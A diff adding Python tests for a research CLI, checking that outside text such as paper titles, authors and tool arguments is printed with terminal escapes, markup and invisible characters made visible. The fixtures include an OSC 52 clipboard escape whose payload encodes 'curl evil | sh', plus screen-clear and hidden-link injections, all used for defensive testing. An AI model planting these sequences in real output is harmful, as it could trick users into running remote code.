@@ -1,0 +1,74 @@
+"""Issue 25: text from outside (paper titles and authors others wrote, session titles, tool arguments)
+never drives the terminal: no escape sequence, no rich markup, no invisible character reaches
+stdout or stderr raw. The real commands run; their bytes are checked."""
+
+from __future__ import annotations
+
+import sqlite3
+import sys
+import unicodedata
+
+from tests.library_support import make_app
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # a clipboard write
+CLEAR = "\x1b[2J\x1b[H"
+MARKUP = "[link=https://evil.example]docs[/link]"
+HIDDEN = "\u061c\u00ad\u180e\ufff9\U000e0041\U000e007f\u202e\u2066"
+RAW = ["\x1b", "\x07", *HIDDEN]
+
+
+def _raw_in(text: str) -> list[str]:
+    return [repr(char) for char in RAW if char in text]
+
+
+def test_library_list_shows_hostile_titles_and_authors_as_text(tmp_path, workspace, astro_env, run_astro):
+    app = make_app(workspace)
+    from astro_cli.research.library import Library
+
+    Library(app).upsert_paper({"id": "2501.00100", "title": f"Dust{OSC52} {MARKUP}{CLEAR}",
+                               "authors": [f"Eve{HIDDEN} Mallory"], "year": 2025})
+    app.close()
+    env = {**astro_env, "COLUMNS": "400"}
+    result = run_astro(["library", "list"], env)
+    assert result.returncode == 0, result.stderr
+    assert _raw_in(result.stdout) == [] and _raw_in(result.stderr) == []
+    assert "\\x1b]52;c;" in result.stdout and "\\x1b[2J" in result.stdout  # shown, visibly
+    assert MARKUP in result.stdout  # printed as written, not turned into a link
+    assert "\\u061c" in result.stdout and "\\U000e0041" in result.stdout
+    removed = run_astro(["library", "remove", "2501.00100", "--yes"], env)
+    assert removed.returncode == 0 and _raw_in(removed.stdout) == [] and "\\x1b]52" in removed.stdout
+
+
+def test_session_titles_transcripts_and_tool_lines_show_no_raw_control(fake, astro_env, workspace, run_astro):
+    env = {**astro_env, "COLUMNS": "400"}
+    question = f"Summarise{OSC52}{CLEAR} {MARKUP} this{HIDDEN}"
+    fake.add({"tool_calls": [{"name": "read_file", "arguments": {"path": f"notes{HIDDEN}{OSC52}.txt"}}]},
+             {"text": f"Done{OSC52}{HIDDEN}"})
+    result = run_astro(["run", question], env)
+    assert result.returncode == 0, result.stderr
+    assert _raw_in(result.stderr) == []  # the tool line names the argument with escapes
+    db = sqlite3.connect(workspace / ".astro" / "astro.db")
+    [(session_id,)] = db.execute("SELECT id FROM sessions").fetchall()
+    db.close()
+    listing = run_astro(["sessions", "list"], env)
+    assert listing.returncode == 0, listing.stderr
+    assert _raw_in(listing.stdout) == [] and MARKUP in listing.stdout and "\\x1b]52" in listing.stdout
+    shown = run_astro(["sessions", "show", session_id], env)
+    assert shown.returncode == 0, shown.stderr
+    assert _raw_in(shown.stdout) == [] and "\\u180e" in shown.stdout
+
+
+def test_an_error_quoting_outside_text_is_not_read_as_markup(astro_env, workspace, run_astro):
+    result = run_astro(["library", "remove", f"{MARKUP}{OSC52}", "--yes"], astro_env)
+    assert result.returncode != 0
+    assert _raw_in(result.stderr) == [] and "[link=https://evil.example]" in result.stderr.replace("\n", "")
+
+
+def test_every_format_and_control_character_is_escaped():
+    from astro_cli.security.visible import visible
+
+    missed = [f"U+{code:04X}" for code in range(sys.maxunicode + 1)
+              if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp") and chr(code) not in "\n\t"
+              and visible(chr(code)) == chr(code)]
+    assert missed == []
+    assert visible("a\tb\nc") == "a\tb\nc" and visible("\U000e0041") == "\\U000e0041"
